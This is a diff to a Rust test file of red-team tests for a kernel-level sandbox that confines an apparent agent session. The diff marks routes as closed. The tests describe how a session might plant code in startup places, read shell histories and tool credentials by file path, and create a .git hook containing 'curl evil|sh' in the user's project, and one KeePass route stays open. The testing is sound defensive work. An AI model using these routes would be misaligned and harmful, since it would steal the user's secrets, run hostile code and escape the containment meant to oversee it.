@@ -1368,8 +1368,9 @@ fn reads_the_transcripts_and_history_of_the_users_other_agents() {
 /// Principle: the never list names the code places of a fixed set of tools; the promise is
 /// every place "the user's shell, desktop session, editors, package managers and
 /// toolchains read code from", which a list of names cannot end.
+/// Closed by kind: each is a hidden entry of the home, which a grant on the home does
+/// not reach (`hidden_in_root`).
 #[test]
-#[ignore = "open route: the never list names a fixed set of tools' code places; gdb, IPython, nvim site, VS Code, GNOME Shell, starship, psql, R, WezTerm, mailcap are not in it"]
 fn plants_code_in_startup_places_the_never_list_does_not_name() {
     let mut c = Cleanup::default();
     let places = [
@@ -1417,14 +1418,11 @@ fn plants_code_in_startup_places_the_never_list_does_not_name() {
 
 /// Makes a directory (granted `create` in the user's folder: "make an exports folder for
 /// the report"), then reads and rewrites a file the USER saves into it afterwards, outside
-/// the session. `pincer_vfs_mkdir` (fexit/vfs_mkdir) gives the session a subtree grant of
-/// every access on the new directory, so the walk from the user's file meets that grant
-/// before any root; `protect_owned` only marks the object protected, and `verdict` allows
-/// what a grant covers. Principle: "what it created" is the objects the session created,
-/// not a place: an object another process made (the user's, by its creator) in a
-/// directory of the session's needs a grant like any other of the user's.
+/// the session. Principle: "what it created" is the objects the session created, not a
+/// place: an object another process made (the user's, by its creator) in a directory of
+/// the session's needs a grant like any other of the user's. Closed: `pincer_vfs_mkdir`
+/// gives the session an exact grant on the directory it made, not a subtree grant.
 #[test]
-#[ignore = "open route: the subtree grant pincer_vfs_mkdir gives a directory the session made covers the user's later files in it"]
 fn reads_and_rewrites_a_file_the_user_saves_into_a_directory_the_session_made() {
     let mut c = Cleanup::default();
     let work = PathBuf::from(home(&format!("rtn-work-{}", uniq())));
@@ -1667,24 +1665,36 @@ fn pulls_a_read_granted_file_into_its_own_folder_by_link_and_exchange() {
 /// whole home ("search my home for that config"), which no never place yields to: zsh
 /// history under its other usual names (`~/.zhistory`, prezto's and many distributions';
 /// `$ZDOTDIR/.zsh_history`), atuin's shell history database, VS Code's global state (the
-/// tokens of its extensions), Slack's cookies, a KeePass database and Vagrant's key.
-/// Control: `~/.bash_history` under the same grant. Principle: the never list is a list of
-/// names, and "histories, keyrings and credentials" is a kind, not a list; what the twin
-/// may grant from the home under a broad read must be decided by kind (the twin's
-/// secret detection on content, or a default of no broad home grants).
+/// tokens of its extensions), Slack's cookies and Vagrant's key. Control:
+/// `~/.bash_history` under the same grant. Principle: the never list is a list of names,
+/// and "histories, keyrings and credentials" is a kind, not a list. Closed by kind: these
+/// all live in the home's hidden entries (the configuration and state of the user's
+/// tools), which a grant on the home does not reach (`hidden_in_root`).
 #[test]
-#[ignore = "open route: the never list names histories and secrets one by one; zsh's other history names, atuin, VS Code state, Slack cookies, KeePass, Vagrant keys are not in it"]
 fn reads_histories_and_secrets_the_never_list_does_not_name() {
-    let mut c = Cleanup::default();
-    let places = [
+    reads_under_a_home_read_grant(&[
         ".zhistory",
         ".config/zsh/.zsh_history",
         ".local/share/atuin/history.db",
         ".config/Code/User/globalStorage/state.vscdb",
         ".config/Slack/Cookies",
-        "Documents/Passwords.kdbx",
         ".vagrant.d/insecure_private_key",
-    ];
+    ]);
+}
+
+/// A KeePass database among the user's documents, under the same read grant on the whole
+/// home: not a hidden entry, and its kind shows only in its content.
+#[test]
+#[ignore = "open route: a secret among the user's documents (a KeePass database) is reached by a read grant on the whole home; the kernel cannot tell it by kind"]
+fn reads_a_password_database_among_the_users_documents() {
+    reads_under_a_home_read_grant(&["Documents/Passwords.kdbx"]);
+}
+
+/// Makes each of `places` (under the home, as the user's), grants the session read and
+/// list on the whole home, and asserts each read is refused (with `~/.bash_history`, a
+/// listed place, as the control).
+fn reads_under_a_home_read_grant(places: &[&str]) {
+    let mut c = Cleanup::default();
     let bh = PathBuf::from(home(".bash_history"));
     if !bh.exists() {
         c.add(&bh);
@@ -1720,8 +1730,9 @@ fn reads_histories_and_secrets_the_never_list_does_not_name() {
 /// session's fsmonitor command. Principle: a git directory's hooks and config run in
 /// whoever uses the repository; one made in a folder the user works in is the user's code
 /// place, whoever made it.
+/// Closed: the never patterns apply in a directory the session made; only its scratch
+/// lifts them.
 #[test]
-#[ignore = "open route: a .git the session makes is its own (pincer_vfs_mkdir subtree grant, patterns skipped) even in the user's project folder, where the user's git runs its hooks"]
 fn makes_a_repository_in_the_users_project_whose_hooks_the_users_git_runs() {
     let mut red = Red::start_with("gitinit", |ws| {
         make(&ws.join("proj/src/lib.rs"), Some("\n"));
@@ -1738,5 +1749,8 @@ fn makes_a_repository_in_the_users_project_whose_hooks_the_users_git_runs() {
             create(&git.join("hooks/post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
         ]
     });
-    assert!(r[3..].iter().all(|e| *e == EACCES), "the config and hook of a .git in the user's project folder: {r:?}");
+    // The hooks folder itself is refused, so the hook cannot be made (ENOENT) or is refused.
+    assert_eq!(r[3], EACCES, "the config of a .git in the user's project folder: {r:?}");
+    assert!(r[4] != 0 && !git.join("hooks/post-checkout").exists(), "the hook of a .git in the user's project folder: {r:?}");
+    assert!(!git.join("config").exists(), "a config was written: {r:?}");
 }
